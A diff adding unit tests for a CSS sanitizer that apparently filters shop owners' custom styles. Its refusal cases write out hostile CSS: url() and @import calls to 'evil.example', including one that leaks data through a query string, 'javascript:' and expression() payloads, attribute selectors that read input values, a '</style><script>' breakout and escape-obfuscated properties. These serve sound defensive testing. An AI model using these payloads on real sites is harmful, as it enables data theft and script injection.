@@ -1,0 +1,115 @@
+import { expect, test } from 'vitest';
+import { checkCss, cssInside } from './custom-css.ts';
+
+const refusedOf = (css: string) => {
+  const checked = checkCss(css);
+  return 'refused' in checked ? checked.refused : [];
+};
+
+test('what only changes looks is kept, comments aside', () => {
+  const text = `/* minha loja */
+.product-card:hover, h1 > a { color: #FF0000; padding: 4px 8px !important }
+body { background: linear-gradient(90deg, #fff 0%, rgb(0 0 0 / 50%)); font-family: "Open Sans", sans-serif }
+@media (max-width: 600px) { .product-grid { grid-template-columns: repeat(2, minmax(0, 1fr)); } }`;
+  const checked = checkCss(text);
+  expect(checked).toEqual({
+    css: `.product-card:hover,h1>a {
+  color: #FF0000;
+  padding: 4px 8px !important;
+}
+body {
+  background: linear-gradient(90deg,#fff 0%,rgb(0 0 0/50%));
+  font-family: "Open Sans",sans-serif;
+}
+@media (max-width:600px) {
+  .product-grid {
+    grid-template-columns: repeat(2,minmax(0,1fr));
+  }
+}`,
+  });
+  const { css } = checked as { css: string };
+  expect(checkCss(css)).toEqual({ css });
+});
+
+test.each([
+  ['@import "https://evil.example/x.css";', '@import'],
+  ['@font-face { font-family: x; src: url(https://evil.example/x) }', '@font-face'],
+  ['@charset "utf-8";', '@charset'],
+  ['@keyframes x { from { color: red } }', '@keyframes'],
+  ['@media print { a { color: red } }', '@media print'],
+  ['a { background: url(https://evil.example/?c=1) }', 'background:url(https://evil.example/?c=1)'],
+  ['a { background-image: image-set("https://evil.example/x" 1x) }', 'image-set'],
+  ['a { background: URL( "javascript:alert(1)" ) }', 'javascript'],
+  ['a { width: expression(alert(1)) }', 'expression'],
+  ['a { color: var(--x) }', 'var(--x)'],
+  ['a { color: attr(data-x) }', 'attr'],
+  ['a { --x: url(https://evil.example) }', '--x'],
+  ['a { position: fixed; top: 0 }', 'position:fixed'],
+  ['a { z-index: 9 }', 'z-index'],
+  ['a { behavior: none }', 'behavior'],
+  ['a { -moz-binding: none }', '-moz-binding'],
+  ['a { content: "x" }', 'content'],
+  ['a { pointer-events: none }', 'pointer-events'],
+  ['a { color: 12px }', 'color:12px'],
+  ['input[value^="a"] { color: red }', '[value'],
+  ['#root { color: red }', '#root'],
+  ['script { color: red }', 'script'],
+  ['* { color: red }', '*'],
+  ['a::before { color: red }', '::before'],
+  ['a:has(p) { color: red }', ':has'],
+  ['a { & p { color: red } }', '&'],
+  ['a { color: red } </style><script>alert(1)</script>', '<'],
+  ['a { \\70osition: fixed }', '\\'],
+  ['a { background: u\\72l(x) }', '\\'],
+  [`a { width: ${'calc('.repeat(3_000)}1px${')'.repeat(3_000)} }`, '('],
+])('%s is refused by name', (css, part) => {
+  const refused = refusedOf(css);
+  expect(refused.map((one) => one.part).join(' ')).toContain(part);
+});
+
+test('every refused part is named with its line', () => {
+  expect(refusedOf('a { color: red }\nb { position: fixed }\np {\n  z-index: 3 }')).toMatchObject([
+    { line: 2, part: 'b' },
+    { line: 2, part: 'position:fixed', reason: 'esta propriedade não é permitida' },
+    { line: 4, part: 'z-index:3' },
+  ]);
+});
+
+test.each([
+  'a {',
+  '}',
+  'a { color }',
+  'a { color: ; }',
+  '<!-- a {} -->',
+  'a { color: red; b { ',
+  '"',
+  '/*',
+  '@',
+  '@media',
+])('broken css %s throws nothing, and nothing broken is kept', (css) => {
+  const checked = checkCss(css);
+  if ('css' in checked) expect(checkCss(checked.css)).toEqual(checked);
+});
+
+test('inside an element nothing else is reached, and body is that element', () => {
+  const text = `h1, body, body.x > p, .footer a { color: red }
+@media (max-width: 600px) { p { color: red } }`;
+  expect(cssInside('loja', text)).toBe(`.loja h1,.loja,.loja.x>p,.loja .footer a {
+  color: red;
+}
+@media (max-width:600px) {
+  .loja p {
+    color: red;
+  }
+}`);
+});
+
+test.each([
+  'a { position: fixed }',
+  '} body { display: none',
+  '@import "x.css"; a { color: red }',
+  '> p { color: red }',
+  '+ footer { color: red }',
+  'h1, body ~ footer { color: red }',
+  'BODY+p { color: red }',
+])('%s leaves nothing inside an element', (css) => expect(cssInside('loja', css)).toBe(''));
